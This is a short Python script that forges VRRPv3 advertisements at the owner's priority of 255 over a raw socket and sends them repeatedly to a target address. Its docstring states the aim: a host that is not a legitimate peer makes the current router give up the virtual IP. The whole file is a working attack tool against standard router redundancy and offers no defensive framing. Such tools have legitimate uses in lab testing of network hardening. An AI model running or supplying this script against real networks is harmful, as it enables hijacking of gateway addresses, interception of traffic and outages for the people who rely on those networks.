"""Sends VRRPv3 adverts for a virtual router from an address of this machine, as a host that is
no peer could: priority 255 (the owner's), so a holder that takes them gives the address up.
   python3 forged-vrrp.py SOURCE TARGET VRID VIP SECONDS"""
import socket
import struct
import sys
import time

source, target, vrid, vip, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert() -> bytes:
    # Version 3, type 1 (advertisement), the router id, priority 255, one address, 1 s interval.
    body = struct.pack("!BBBBH", 0x31, vrid, 255, 1, 100) + b"\0\0" + socket.inet_aton(vip)
    # VRRPv3's checksum covers the IPv4 pseudo-header (RFC 5798, 5.2.8).
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
s.bind((source, 0))
packet, sent, end = advert(), 0, time.monotonic() + seconds
while time.monotonic() < end:
    s.sendto(packet, (target, 0))
    sent += 1
    time.sleep(0.1)
print(f"sent {sent} adverts")
